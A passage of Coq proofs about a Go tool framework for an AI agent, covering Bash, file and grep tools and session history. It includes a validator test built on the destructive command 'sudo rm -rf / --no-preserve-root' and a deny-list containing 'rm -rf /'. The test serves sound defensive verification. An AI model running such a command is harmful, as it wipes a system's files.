  | Some (RegularFile _) => (fs, Some ("mkdir " +:+ path +:+ ": not a directory"))
  | Some Directory => (fs, None)
  | None => (<[path := Directory]> fs, None)
  end.

(** A pattern without metacharacters matches the path of that name. *)
Definition Glob (fs : FS) (pattern : string) : option (list string) :=
  match fs !! pattern with
  | Some _ => Some [pattern]
  | None => Some []
  end.

(** No process can be started. *)
Definition bash (fs : FS) (command : string) (timeout : Z) : FS * ProcRun :=
  (fs, StartFailed "exec: bash: executable file not found in $PATH").

Definition host : Host :=
  {| filepath_Dir := Dir; os_MkdirAll := MkdirAll; filepath_Glob := Glob; exec_bash := bash |}.

End plain_host.

(** ** Concrete inputs *)

Module examples.

Definition two_lines : string := "a" +:+ gostrings.nl +:+ "b".

Definition notes_fs : FS := {[ "notes.txt" := RegularFile two_lines ]}.

(** [{"file_path": "notes.txt", "offset": 5}] *)
Definition read_past_end : Input :=
  <["file_path" := VString "notes.txt"]> (<["offset" := VFloat64 (5 # 1)]> ∅).

(** [{"file_path": "f", "content": "alpha"}] *)
Definition write_alpha : Input :=
  <["file_path" := VString "f"]> (<["content" := VString "alpha"]> ∅).

(** [{"file_path": "f", "content": "\nbeta", "append": true}] *)
Definition append_beta : Input :=
  <["file_path" := VString "f"]>
    (<["content" := VString (gostrings.nl +:+ "beta")]> (<["append" := VBool true]> ∅)).

(** [{"file_path": "f"}] *)
Definition read_f : Input := <["file_path" := VString "f"]> ∅.

(** [{"command": "sudo rm -rf / --no-preserve-root"}] *)
Definition rm_root : Input := <["command" := VString "sudo rm -rf / --no-preserve-root"]> ∅.

(** [{"command": "ls", "timeout": 300}] *)
Definition ls_300 : Input := <["command" := VString "ls"]> (<["timeout" := VInt 300]> ∅).

(** [{"file_path": "notes.txt", "old_text": "zzz", "new_text": "y"}] *)
Definition edit_absent : Input :=
  <["file_path" := VString "notes.txt"]>
    (<["old_text" := VString "zzz"]> (<["new_text" := VString "y"]> ∅)).

Definition todo_fs : FS :=
  {[ "A" := RegularFile ("x" +:+ gostrings.nl +:+ "TODO 1" +:+ gostrings.nl +:+ "TODO 2");
     "B" := RegularFile "TODO 3" ]}.

(** [{"pattern": "TODO", "file_paths": ["A", "B"], "max_matches": 2}] *)
Definition grep_two : Input :=
  <["pattern" := VString "TODO"]>
    (<["file_paths" := VSlice [VString "A"; VString "B"]]> (<["max_matches" := VFloat64 (2 # 1)]> ∅)).

(** A session with the Bash tool, and a call that its validator rejects. *)
Definition bash_session : Session.t := core.NewSession [BashTool.NewBashTool plain_host.host] None.

Definition rm_root_call : ToolCall.t := ToolCall.mk "Bash" rm_root "call-1".

Definition unknown_call : ToolCall.t := ToolCall.mk "Teleport" ∅ "call-2".

End examples.

(** ** The shape of a capped search *)

(** At most [K] matches, and when there are [K] the last line scanned is
    the one of the last match: nothing was scanned after it. *)
Definition capped (K : Z) (matches : list GrepMatch.t) (log : list (string * Z)) : Prop :=
  Z.of_nat (length matches) <= K /\
  (Z.of_nat (length matches) = K ->
   exists m, last matches = Some m /\ last log = Some (GrepMatch.File m, GrepMatch.Line m)).

(** ** The history of a session *)

Definition system_message (prompt : string) : Message.t := Message.mk "system" (VString prompt) [].

(** One system message, at the head. *)
Definition one_system_head (prompt : string) (msgs : list Message.t) : Prop :=
  exists rest, msgs = system_message prompt :: rest /\
               Forall (fun m => Message.Role m <> "system") rest.

(** ** Further definitions: views of the registry *)

Module registry_views.

(** [for _, factory := range r.tools { tools = append(tools, factory()) }].
    Go leaves the order of a [range] over a map open; the model takes the
    order of [map_to_list], and what is proved about the result does not
    depend on the order. *)
Fixpoint all_from (entries : list (string * (unit -> Tool.t))) : list Tool.t :=
  match entries with
  | [] => []
  | (_, factory) :: rest => factory tt :: all_from rest
  end.

Fixpoint read_only_from (entries : list (string * (unit -> Tool.t))) : list Tool.t :=
  match entries with
  | [] => []
  | (_, factory) :: rest =>
      let tool := factory tt in
      if Tool.IsReadOnly tool then tool :: read_only_from rest else read_only_from rest
  end.

Definition GetAllTools (r : ToolRegistry.t) : list Tool.t :=
  all_from (map_to_list (ToolRegistry.tools r)).

Definition GetReadOnlyTools (r : ToolRegistry.t) : list Tool.t :=
  read_only_from (map_to_list (ToolRegistry.tools r)).

End registry_views.

(** ** Further definitions: the session *)

Module history.

(** The message an [Add...] operation puts at the end of the history;
    [ExecuteTool] has none that is known without running the tool. *)
Definition message_of (o : core.op) : option Message.t :=
  match o with
  | core.OpAddUserMessage content => Some (Message.mk "user" (VString content) [])
  | core.OpAddAssistantMessage content => Some (Message.mk "assistant" (VString content) [])
  | core.OpAddToolResult _ _ result => Some (Message.mk "tool" result [])
  | core.OpExecuteTool _ => None
  end.

Fixpoint messages_of (ops : list core.op) : list Message.t :=
  match ops with
  | [] => []
  | o :: rest =>
      match message_of o with
      | Some m => m :: messages_of rest
      | None => messages_of rest
      end
  end.

Definition is_add (o : core.op) : Prop :=
  match o with core.OpExecuteTool _ => False | _ => True end.

End history.

(** ** Further definitions: the process-execution tool *)

Module bash_run.

(** The timeout that [Execute] gives to the context, a [time.Duration]. *)
Definition timeout_of (input : Input) : Z :=
  match as_int (input !! "timeout") with
  | Some timeoutVal =>
      if 0 <? timeoutVal then time.seconds timeoutVal else 30 * time.Second
  | None => 30 * time.Second
  end.

(** What [Execute] returns once the run of the process is known. *)
Definition finish (r : FS * ProcRun) : FS * (value * option error) :=
  match r with
  | (fs', PipeFailed err) => (fs', (VNil, Some err))
  | (fs', StartFailed err) => (fs', (VNil, Some err))
  | (fs', ReadFailed err) => (fs', (VNil, Some err))
  | (fs', Waited stdoutBytes stderrBytes err) =>
      (fs', (PBashToolOutput (BashTool.result_of_wait stdoutBytes stderrBytes err), None))
  end.

(** A host on which every run of a process ends as [run] says, without
    touching the files; the other parts are those of [plain_host]. *)
Definition scripted (run : ProcRun) : Host :=
  {| filepath_Dir := plain_host.Dir;
     os_MkdirAll := plain_host.MkdirAll;
     filepath_Glob := plain_host.Glob;
     exec_bash := fun fs _ _ => (fs, run) |}.

(** What [os/exec] reports for a process that is still running at the
    deadline: [exec.CommandContext] kills it, and [cmd.Wait()] returns an
    [*exec.ExitError] whose [syscall.WaitStatus] is that of a process ended
    by a signal, for which [ExitStatus()] is [-1]. *)
Definition killed_at_deadline (stdoutBytes stderrBytes : string) : ProcRun :=
  Waited stdoutBytes stderrBytes (ExitError (Some (-1))).

End bash_run.

(** ** Further concrete inputs *)

Module more_examples.

(** [{"command": "sleep 5", "timeout": 1}] *)
Definition sleep_5 : Input := <["command" := VString "sleep 5"]> (<["timeout" := VInt 1]> ∅).

(** [{"pattern": "TODO", "file_paths": ["A", "B"], "max_matches": 0.5}] *)
Definition grep_half : Input :=
  <["pattern" := VString "TODO"]>
    (<["file_paths" := VSlice [VString "A"; VString "B"]]> (<["max_matches" := VFloat64 (1 # 2)]> ∅)).


End more_examples.

(** ** Further definitions: lines *)

Module lines.


End lines.

(** ** Further definitions: what a write stores *)

Module write_flags.






End write_flags.

(** ** Further definitions: the matching lines of a search *)

Module grep_spec.

(** The lines that contain the pattern, numbered from [i + 1]. *)
Fixpoint line_matches (pattern filePath : string) (i : Z) (lines : list string)
  : list GrepMatch.t :=
  match lines with
  | [] => []
  | line :: rest =>
      if gostrings.Contains line pattern
      then GrepMatch.mk filePath (i + 1) line :: line_matches pattern filePath (i + 1) rest
      else line_matches pattern filePath (i + 1) rest
  end.

(** The matching lines of a path: none unless it is a regular file. *)
Definition file_matches (fs : FS) (pattern filePath : string) : list GrepMatch.t :=
  match fs !! filePath with
  | Some (RegularFile content) =>
      line_matches pattern filePath 0 (gostrings.Split content gostrings.LF)
  | _ => []
  end.

(** The files a path argument stands for: what the glob gives, or the path
    itself when the glob fails or gives nothing. *)
Definition expand (host : Host) (fs : FS) (path : string) : list string :=
  match filepath_Glob host fs path with
  | Some (m :: ms) => m :: ms
  | _ => [path]
  end.

Fixpoint files_matches (fs : FS) (pattern : string) (files : list string) : list GrepMatch.t :=
  match files with
  | [] => []
  | filePath :: rest => file_matches fs pattern filePath ++ files_matches fs pattern rest
  end.

(** Every matching line, in the order of the paths, then of the files of a
    path, then of the lines of a file. *)
Fixpoint all_matches (host : Host) (fs : FS) (pattern : string) (filePaths : list string)
  : list GrepMatch.t :=
  match filePaths with
  | [] => []
  | path :: rest =>
      files_matches fs pattern (expand host fs path) ++ all_matches host fs pattern rest
  end.

(** A match that names a line of a regular file that contains the pattern. *)
Definition genuine (fs : FS) (pattern : string) (m : GrepMatch.t) : Prop :=
  exists content,
    fs !! GrepMatch.File m = Some (RegularFile content) /\
    1 <= GrepMatch.Line m /\
    gostrings.Split content gostrings.LF !! Z.to_nat (GrepMatch.Line m - 1)
      = Some (GrepMatch.Content m) /\
    gostrings.Contains (GrepMatch.Content m) pattern = true.

(** How a loop of the search takes a state [st] to a state [st'] over
    the matching lines [found]: it adds all of them, or it stops at the cap
    having added the first few. *)
Definition extends (K : Z) (st st' : GrepTool.scan) (found : list GrepMatch.t) : Prop :=
  GrepTool.allMatches st' = GrepTool.allMatches st ++ found \/
  (GrepTool.reached st' K = true /\
   exists pre, pre `prefix_of` found /\ GrepTool.allMatches st' = GrepTool.allMatches st ++ pre).

End grep_spec.

(** * Properties *)

(** ** Strings *)

Section string_facts.

Lemma app_cons (c : ascii) (s t : string) : String c s +:+ t = String c (s +:+ t).
Proof. reflexivity. Qed.

Lemma app_empty (t : string) : "" +:+ t = t.
Proof. reflexivity. Qed.

Lemma HasPrefix_app (p t : string) : gostrings.HasPrefix (p +:+ t) p = true.
Proof.
  induction p as [|c p IH]; [reflexivity|].
  rewrite app_cons. cbn [gostrings.HasPrefix].
  now rewrite Ascii.eqb_refl, IH.
Qed.

Lemma Contains_here (s sub : string) :
  gostrings.HasPrefix s sub = true -> gostrings.Contains s sub = true.
Proof. intros H. destruct s; cbn [gostrings.Contains]; now rewrite H. Qed.

Lemma Contains_later (c : ascii) (s sub : string) :
  gostrings.Contains s sub = true -> gostrings.Contains (String c s) sub = true.
Proof. intros H. cbn [gostrings.Contains]. rewrite H. apply orb_true_r. Qed.

Lemma Contains_app (pre sub post : string) :
  gostrings.Contains (pre +:+ sub +:+ post) sub = true.
Proof.
  induction pre as [|c pre IH].
  - rewrite app_empty. apply Contains_here, HasPrefix_app.
  - rewrite app_cons. now apply Contains_later.
Qed.

Lemma Contains_empty (s : string) : gostrings.Contains s "" = true.
Proof. destruct s; reflexivity. Qed.

Lemma app_not_empty (pre sub post : string) : sub <> "" -> pre +:+ sub +:+ post <> "".
Proof.
  intros Hsub. destruct pre; [|discriminate].
  rewrite app_empty. destruct sub; [congruence|discriminate].
Qed.

Lemma Split_not_nil (s : string) (sep : ascii) : gostrings.Split s sep <> [].
Proof.
  induction s as [|c s IH]; cbn [gostrings.Split]; [discriminate|].
  destruct (Ascii.eqb c sep); [discriminate|].
  destruct (gostrings.Split s sep); [congruence|discriminate].
Qed.

Lemma Join_cons_char (c : ascii) (l : string) (ls : list string) (sep : string) :
  gostrings.Join (String c l :: ls) sep = String c (gostrings.Join (l :: ls) sep).
Proof. destruct ls; reflexivity. Qed.

(** Joining the lines of a text gives the text back. *)
Lemma Join_Split (s : string) :
  gostrings.Join (gostrings.Split s gostrings.LF) gostrings.nl = s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  cbn [gostrings.Split].
  destruct (Ascii.eqb_spec c gostrings.LF) as [->|Hc].
  - pose proof (Split_not_nil s gostrings.LF) as Hne.
    destruct (gostrings.Split s gostrings.LF) as [|l ls]; [congruence|].
    change (gostrings.Join ("" :: l :: ls) gostrings.nl)
      with (gostrings.nl +:+ gostrings.Join (l :: ls) gostrings.nl).
    now rewrite IH.
  - pose proof (Split_not_nil s gostrings.LF) as Hne.
    destruct (gostrings.Split s gostrings.LF) as [|l ls]; [congruence|].
    now rewrite Join_cons_char, IH.
Qed.

(** Where [old] does not occur, the replacement loop copies its input. *)
Lemma replace_loop_absent (s old new : string) :
  gostrings.Contains s old = false -> gostrings.replace_loop s old new O = s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  cbn [gostrings.Contains gostrings.replace_loop]. intros H.
  apply orb_false_iff in H as [Hp Hc]. rewrite Hp. now rewrite IH.
Qed.

Lemma ReplaceAll_absent (s old new : string) :
  gostrings.Contains s old = false -> gostrings.ReplaceAll s old new = s.
Proof.
  intros H. unfold gostrings.ReplaceAll. rewrite H.
  now destruct (String.eqb old new).
Qed.

End string_facts.

(** ** The process-execution tool: validation *)

Lemma banned_not_empty (b : string) : b ∈ BashTool.bannedCommands -> b <> "".
Proof.
  intros Hin ->. apply list_elem_of_In in Hin. cbn in Hin.
  repeat (destruct Hin as [Hin|Hin]; [discriminate|]). exact Hin.
Qed.

Lemma check_banned_hit (command b : string) (l : list string) :
  b ∈ l -> gostrings.Contains command b = true ->
  BashTool.check_banned command l = Some "command contains potentially dangerous operations".
Proof.
  intros Hin Hc. induction l as [|x l IH]; [now apply elem_of_nil in Hin|].
  cbn [BashTool.check_banned]. apply elem_of_cons in Hin as [<-|Hin].
  - now rewrite Hc.
  - destruct (gostrings.Contains command x); [reflexivity|auto].
Qed.

(** C8.  Every command that contains an entry of the deny-list, whatever
    text surrounds the entry, is rejected by [ValidateInput] with the
    error of the deny-list. *)
Theorem deny_list_rejects (banned pre post : string) (input : Input) :
  banned ∈ BashTool.bannedCommands ->
  input !! "command" = Some (VString (pre +:+ banned +:+ post)) ->
  BashTool.ValidateInput input = Some "command contains potentially dangerous operations".
Proof.
  intros Hin Hcmd. unfold BashTool.ValidateInput. rewrite Hcmd.
  destruct (String.eqb_spec (pre +:+ banned +:+ post) "") as [He|_].
  - exfalso. revert He. apply app_not_empty. now apply banned_not_empty.
  - now rewrite (check_banned_hit _ banned) by (auto using Contains_app).
Qed.

Lemma deny_list_rejects_witness :
  "rm -rf /" ∈ BashTool.bannedCommands /\
  examples.rm_root !! "command" = Some (VString ("sudo " +:+ "rm -rf /" +:+ " --no-preserve-root")) /\
  BashTool.ValidateInput examples.rm_root = Some "command contains potentially dangerous operations".
Proof.
  assert (H1 : "rm -rf /" ∈ BashTool.bannedCommands) by apply list_elem_of_here.
  assert (H2 : examples.rm_root !! "command"
               = Some (VString ("sudo " +:+ "rm -rf /" +:+ " --no-preserve-root")))
    by (vm_compute; reflexivity).
  exact (conj H1 (conj H2 (deny_list_rejects "rm -rf /" "sudo " " --no-preserve-root"
                             examples.rm_root H1 H2))).
Defined.

Lemma validate_timeout_delete (input : Input) :
  BashTool.validate_timeout (delete "timeout" input) = None.
Proof. unfold BashTool.validate_timeout. now rewrite lookup_delete_eq. Qed.

(** C10.  When a timeout is given, validation passes only if it is a Go
    [int] between 1 and 300; and every such timeout passes when the rest
    of the input does. *)
Theorem timeout_range (input : Input) (v : value) :
  input !! "timeout" = Some v ->
  (BashTool.ValidateInput input = None -> exists n, v = VInt n /\ 1 <= n <= 300) /\
  (forall n, v = VInt n -> 1 <= n <= 300 ->
   BashTool.ValidateInput (delete "timeout" input) = None ->
   BashTool.ValidateInput input = None).
Proof.
  intros Hv. split.
  - unfold BashTool.ValidateInput.
    destruct (input !! "command") as [[]|]; try discriminate.
    destruct (String.eqb s ""); try discriminate.
    destruct (BashTool.check_banned s _); try discriminate.
    unfold BashTool.validate_timeout. rewrite Hv.
    destruct v; try discriminate.
    destruct (Z.leb_spec n 0); try discriminate.
    destruct (Z.ltb_spec 300 n); try discriminate.
    intros _. exists n. split; [reflexivity|lia].
  - intros n -> Hn. unfold BashTool.ValidateInput.
    rewrite lookup_delete_ne by discriminate.
    destruct (input !! "command") as [[]|]; try discriminate.
    destruct (String.eqb s ""); try discriminate.
    destruct (BashTool.check_banned s _); try discriminate.
    intros _. unfold BashTool.validate_timeout. rewrite Hv.
    destruct (Z.leb_spec n 0); [lia|].
    destruct (Z.ltb_spec 300 n); [lia|reflexivity].
Qed.

Lemma timeout_range_witness :
  examples.ls_300 !! "timeout" = Some (VInt 300) /\
  BashTool.ValidateInput examples.ls_300 = None.
Proof.
  assert (H : examples.ls_300 !! "timeout" = Some (VInt 300)) by (vm_compute; reflexivity).
  split; [exact H|].
  apply (proj2 (timeout_range examples.ls_300 (VInt 300) H) 300 eq_refl).
  - lia.
  - vm_compute; reflexivity.
Defined.

(** What [Execute] makes of the error of [cmd.Wait()]: only an error that
    is not an [*exec.ExitError] and wraps [context.DeadlineExceeded] sets
    [Interrupted]; an [*exec.ExitError] sets the exit code only. *)
Lemma result_of_wait_deadline (out err : string) :
  BashTool.result_of_wait out err (OtherError true)
  = BashToolOutput.mk out (err +:+ gostrings.nl +:+ "Command execution timed out") 0 true.
Proof. reflexivity. Qed.

Lemma result_of_wait_exit (out err : string) (status : Z) :
  BashTool.result_of_wait out err (ExitError (Some status))
  = BashToolOutput.mk out err status false.
Proof. reflexivity. Qed.

(** ** The file-edit tool *)

(** C7.  When the old text does not occur in the file, [Execute] writes
    nothing and returns the failure "Old text not found in file". *)
Theorem edit_absent_old_text (fs : FS) (input : Input) (filePath oldText newText content : string) :
  input !! "file_path" = Some (VString filePath) ->
  filePath <> "" ->
  input !! "old_text" = Some (VString oldText) ->
  input !! "new_text" = Some (VString newText) ->
  fs !! filePath = Some (RegularFile content) ->
  gostrings.Contains content oldText = false ->
  FileEditTool.Execute fs input
  = (fs, (PFileEditToolOutput (FileEditToolOutput.mk false "Old text not found in file"), None)).
Proof.
  intros Hp Hne Ho Hn Hf Hc. unfold FileEditTool.Execute.
  rewrite Hp, Ho, Hn. cbn [as_string].
  destruct (String.eqb_spec filePath "") as [|_]; [congruence|].
  destruct (String.eqb_spec oldText "") as [->|_].
  - now rewrite Contains_empty in Hc.
  - unfold os.ReadFile. rewrite Hf.
    rewrite ReplaceAll_absent by exact Hc.
    now rewrite String.eqb_refl.
Qed.

Lemma edit_absent_old_text_witness :
  FileEditTool.Execute examples.notes_fs examples.edit_absent
  = (examples.notes_fs,
     (PFileEditToolOutput (FileEditToolOutput.mk false "Old text not found in file"), None)).
Proof.
  apply (edit_absent_old_text examples.notes_fs examples.edit_absent
           "notes.txt" "zzz" "y" examples.two_lines).
  - vm_compute; reflexivity.
  - discriminate.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
Defined.

(** ** The file-read tool *)

Lemma apply_offset_past_end (offset : Z) (lines : list string) :
  Z.of_nat (length lines) <= offset -> FileReadTool.apply_offset offset lines = lines.
Proof.
  intros H. unfold FileReadTool.apply_offset.
  destruct (Z.ltb_spec offset (Z.of_nat (length lines))); [lia|].
  now rewrite andb_false_r.
Qed.


(** What [Execute] returns for a regular file that is not an image: the
    lines of the content, cut by offset and limit, joined again. *)
Lemma read_text (fs : FS) (input : Input) (filePath content : string) :
  input !! "file_path" = Some (VString filePath) ->
  filePath <> "" ->
  fs !! filePath = Some (RegularFile content) ->
  FileReadTool.imageExts (gostrings.ToLower (filepath.Ext filePath)) = false ->
  FileReadTool.Execute fs input
  = (fs, (PFileReadToolOutput
            (FileReadToolOutput.mk "text"
               (gostrings.Join
                  (FileReadTool.apply_limit (FileReadTool.limit_of input)
                     (FileReadTool.apply_offset (FileReadTool.offset_of input)
                        (gostrings.Split content gostrings.LF)))
                  gostrings.nl) ""), None)).
Proof.
  intros Hp Hne Hf Himg. unfold FileReadTool.Execute.
  rewrite Hp. cbn [as_string].
  destruct (String.eqb_spec filePath "") as [|_]; [congruence|].
  unfold os.Stat, os.ReadFile. now rewrite Hf, Himg.
Qed.

(** C3, as the code has it.  Offset and limit cut the list of lines of the
    content.  An offset at or past the number of lines is not applied: the
    result is a text result, without error, that starts at the first line
    of the file; without a limit it is the whole content. *)
Theorem read_offset_past_end (fs : FS) (input : Input) (filePath content : string) :
  input !! "file_path" = Some (VString filePath) ->
  filePath <> "" ->
  gostrings.is_ascii filePath = true ->
  fs !! filePath = Some (RegularFile content) ->
  FileReadTool.imageExts (gostrings.ToLower (filepath.Ext filePath)) = false ->
  Z.of_nat (length (gostrings.Split content gostrings.LF)) <= FileReadTool.offset_of input ->
  FileReadTool.Execute fs input
  = (fs, (PFileReadToolOutput
            (FileReadToolOutput.mk "text"
               (gostrings.Join
                  (FileReadTool.apply_limit (FileReadTool.limit_of input)
                     (gostrings.Split content gostrings.LF))
                  gostrings.nl) ""), None))
  /\ (input !! "limit" = None ->
      FileReadTool.Execute fs input
      = (fs, (PFileReadToolOutput (FileReadToolOutput.mk "text" content ""), None))).
Proof.
  intros Hp Hne _ Hf Himg Hoff.
  rewrite (read_text fs input filePath content Hp Hne Hf Himg).
  rewrite apply_offset_past_end by exact Hoff.
  split; [reflexivity|].
  intros Hl. unfold FileReadTool.limit_of. rewrite Hl. cbn [as_float64].
  unfold FileReadTool.apply_limit. cbn [Z.ltb Z.compare andb].
  now rewrite Join_Split.
Qed.

Lemma read_offset_past_end_witness :
  FileReadTool.Execute examples.notes_fs examples.read_past_end
  = (examples.notes_fs,
     (PFileReadToolOutput (FileReadToolOutput.mk "text" examples.two_lines ""), None)).
Proof.
  apply (read_offset_past_end examples.notes_fs examples.read_past_end
           "notes.txt" examples.two_lines).
  - vm_compute; reflexivity.
  - discriminate.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute. discriminate.
  - vm_compute; reflexivity.
Defined.

(** C3, as stated, fails: the file [notes.txt] has two lines, the offset
    is 5, and the content returned is that of the whole file, not the
    empty string. *)
Lemma read_offset_past_end_not_empty :
  Z.of_nat (length (gostrings.Split examples.two_lines gostrings.LF))
    <= FileReadTool.offset_of examples.read_past_end /\
  FileReadTool.Execute examples.notes_fs examples.read_past_end
  = (examples.notes_fs,
     (PFileReadToolOutput (FileReadToolOutput.mk "text" examples.two_lines ""), None)) /\
  examples.two_lines <> "".
Proof.
  split; [vm_compute; discriminate|].
  split; [vm_compute; reflexivity|discriminate].
Qed.

(** ** Write, append, read *)

(** C4, on the code.  Writing ["alpha"] to [f] with the default flags
    stores ["alpha\n"]; appending ["\nbeta"] with [append = true] and the
    other flags at their defaults adds ["\n\nbeta"]; reading [f] then
    gives ["alpha\n\n\nbeta"], which is not ["alpha\nbeta"]. *)
Theorem write_append_read_scenario :
  let w := FileWriteTool.Execute plain_host.host ∅ examples.write_alpha in
  let a := FileWriteTool.Execute plain_host.host (fst w) examples.append_beta in
  let r := FileReadTool.Execute (fst a) examples.read_f in
  snd w = (PFileWriteToolOutput (FileWriteToolOutput.mk true ""), None) /\
  fst w !! "f" = Some (RegularFile ("alpha" +:+ gostrings.nl)) /\
  snd a = (PFileWriteToolOutput (FileWriteToolOutput.mk true ""), None) /\
  snd r = (PFileReadToolOutput
             (FileReadToolOutput.mk "text"
                ("alpha" +:+ gostrings.nl +:+ gostrings.nl +:+ gostrings.nl +:+ "beta") ""), None) /\
  "alpha" +:+ gostrings.nl +:+ gostrings.nl +:+ gostrings.nl +:+ "beta"
  <> "alpha" +:+ gostrings.nl +:+ "beta".
Proof.
  cbv zeta. repeat split; try (vm_compute; reflexivity). discriminate.
Qed.

(** ** The session *)

Section session_facts.

Implicit Types (s : Session.t) (fs : FS) (toolCall : ToolCall.t) (o : core.op).

(** What [ExecuteTool] does with the history, case by case. *)
Lemma ExecuteTool_not_found s fs toolCall :
  core.find_tool (Session.Tools s) (ToolCall.ToolName toolCall) = None ->
  core.ExecuteTool s fs toolCall
  = (s, fs, (None, Some ("tool not found: " +:+ ToolCall.ToolName toolCall))).
Proof. intros H. unfold core.ExecuteTool. now rewrite H. Qed.

Lemma ExecuteTool_invalid s fs toolCall (tool : Tool.t) (err : error) :
  core.find_tool (Session.Tools s) (ToolCall.ToolName toolCall) = Some tool ->
  Tool.ValidateInput tool fs (ToolCall.Input toolCall) = Some err ->
  core.ExecuteTool s fs toolCall
  = (s, fs,
     (Some (ToolUseResult.mk (ToolCall.ToolName toolCall) (ToolCall.Input toolCall) VNil (Some err)),
      None)).
Proof. intros H1 H2. unfold core.ExecuteTool. now rewrite H1, H2. Qed.

Lemma ExecuteTool_messages s fs toolCall :
  let s' := fst (fst (core.ExecuteTool s fs toolCall)) in
  Session.Messages s' = Session.Messages s \/
  exists output, Session.Messages s' = Session.Messages s ++ [Message.mk "tool" output []].
Proof.
  unfold core.ExecuteTool.
  destruct (core.find_tool _ _) as [tool|]; [|now left].
  destruct (Tool.ValidateInput tool fs _); [now left|].
  destruct (Tool.Execute tool fs _) as [fs' [output err]].
  right. now exists output.
Qed.

(** Every operation keeps the history or adds one message at its end, and
    the added message is not a system message. *)
Lemma step_messages s fs o :
  let s' := fst (core.step (s, fs) o) in
  Session.Messages s' = Session.Messages s \/
  exists m, Message.Role m <> "system" /\ Session.Messages s' = Session.Messages s ++ [m].
Proof.
  destruct o as [content|content|toolName id result|toolCall]; cbn [core.step].
  - right. eexists. split; [|reflexivity]. discriminate.
  - right. eexists. split; [|reflexivity]. discriminate.
  - right. eexists. split; [|reflexivity]. discriminate.
  - destruct (ExecuteTool_messages s fs toolCall) as [H|[output H]]; [now left|].
    right. eexists. split; [|exact H]. discriminate.
Qed.

Lemma run_snoc (st : Session.t * FS) (ops : list core.op) o :
  core.run st (ops ++ [o]) = core.step (core.run st ops) o.
Proof. unfold core.run. now rewrite fold_left_app. Qed.

Lemma run_app (st : Session.t * FS) (ops1 ops2 : list core.op) :
  core.run st (ops1 ++ ops2) = core.run (core.run st ops1) ops2.
Proof. unfold core.run. now rewrite fold_left_app. Qed.

Lemma run_extends (st : Session.t * FS) (ops : list core.op) :
  exists added,
    Session.Messages (fst (core.run st ops)) = Session.Messages (fst st) ++ added /\
    Forall (fun m => Message.Role m <> "system") added.
Proof.
  induction ops as [|o ops IH] using rev_ind.
  - exists []. split; [now rewrite app_nil_r|constructor].
  - rewrite run_snoc. destruct IH as (added & Heq & Hall).
    destruct (core.run st ops) as [s fs] eqn:Hrun. cbn [fst] in Heq.
    destruct (step_messages s fs o) as [H|(m & Hm & H)]; cbv zeta in H; rewrite H, Heq.
    + now exists added.
    + exists (added ++ [m]). split; [now rewrite app_assoc|].
      apply Forall_app. split; [exact Hall|]. now constructor.
Qed.

End session_facts.

(** C1, on the code.  The Bash tool is found, its validator rejects the
    command, and [ExecuteTool] returns a result that carries the validation
    error and a [nil] error; the session it leaves is the one it was given:
    the history still has its one message. *)
Theorem validation_failure_not_recorded :
  core.ExecuteTool examples.bash_session ∅ examples.rm_root_call
  = (examples.bash_session, ∅,
     (Some (ToolUseResult.mk "Bash" examples.rm_root VNil
              (Some "command contains potentially dangerous operations")),
      None)) /\
  length (Session.Messages examples.bash_session) = 1%nat.
Proof.
  split; [|reflexivity].
  apply (ExecuteTool_invalid examples.bash_session ∅ examples.rm_root_call
           (BashTool.NewBashTool plain_host.host)).
  - reflexivity.
  - vm_compute; reflexivity.
Qed.

(** C2.  After any run of operations on a new session the history is the
    system message of the construction followed by messages that are not
    system messages, and a longer run only extends the history of a shorter
    one. *)
Theorem history_one_system_message (tools : list Tool.t) (config : option SessionConfig.t)
    (fs : FS) (ops1 ops2 : list core.op) :
  let s0 := core.NewSession tools config in
  let s1 := fst (core.run (s0, fs) ops1) in
  let s2 := fst (core.run (s0, fs) (ops1 ++ ops2)) in
  Session.Messages s0 = [system_message (SessionConfig.SystemPrompt (Session.Config s0))] /\
  one_system_head (SessionConfig.SystemPrompt (Session.Config s0)) (Session.Messages s1) /\
  Session.Messages s1 `prefix_of` Session.Messages s2.
Proof.
  cbv zeta. split; [reflexivity|]. split.
  - destruct (run_extends (core.NewSession tools config, fs) ops1) as (added & Heq & Hall).
    exists added. split; [exact Heq|exact Hall].
  - rewrite run_app.
    destruct (run_extends (core.run (core.NewSession tools config, fs) ops1) ops2)
      as (added & Heq & _).
    exists added. exact Heq.
Qed.

Lemma find_tool_none (tools : list Tool.t) (toolName : string) :
  Forall (fun t => Tool.Name t <> toolName) tools -> core.find_tool tools toolName = None.
Proof.
  induction 1 as [|t tools Ht _ IH]; [reflexivity|].
  cbn [core.find_tool]. destruct (String.eqb_spec (Tool.Name t) toolName); [contradiction|exact IH].
Qed.

(** C6.  A name that is not registered gets no tool from the registry; a
    call that names none of the tools of the session makes [ExecuteTool]
    return the error "tool not found: <name>" and no result, and the
    session and the file system are the ones it was given. *)
Theorem unknown_tool_not_found (r : ToolRegistry.t) (s : Session.t) (fs : FS)
    (toolCall : ToolCall.t) :
  (ToolRegistry.tools r !! ToolCall.ToolName toolCall = None ->
   ToolRegistry.GetTool r (ToolCall.ToolName toolCall) = None) /\
  (Forall (fun t => Tool.Name t <> ToolCall.ToolName toolCall) (Session.Tools s) ->
   core.find_tool (Session.Tools s) (ToolCall.ToolName toolCall) = None /\
   core.ExecuteTool s fs toolCall
   = (s, fs, (None, Some ("tool not found: " +:+ ToolCall.ToolName toolCall)))).
Proof.
  split.
  - intros H. unfold ToolRegistry.GetTool. now rewrite H.
  - intros H. apply find_tool_none in H. split; [exact H|].
    now apply ExecuteTool_not_found.
Qed.

Lemma unknown_tool_not_found_witness :
  ToolRegistry.GetTool ToolRegistry.NewToolRegistry "Teleport" = None /\
  core.ExecuteTool examples.bash_session ∅ examples.unknown_call
  = (examples.bash_session, ∅, (None, Some "tool not found: Teleport")).
Proof.
  destruct (unknown_tool_not_found ToolRegistry.NewToolRegistry examples.bash_session ∅
              examples.unknown_call) as [Hr Hs].
  split.
  - apply Hr. reflexivity.
  - apply Hs. repeat constructor. discriminate.
Defined.

(** ** The content search *)

Section grep_facts.

Variable K : Z.

Local Abbreviation below st := (Z.of_nat (length (GrepTool.allMatches st)) < K).
Local Abbreviation capped_state st := (capped K (GrepTool.allMatches st) (GrepTool.scanned st)).

Lemma reached_spec (st : GrepTool.scan) :
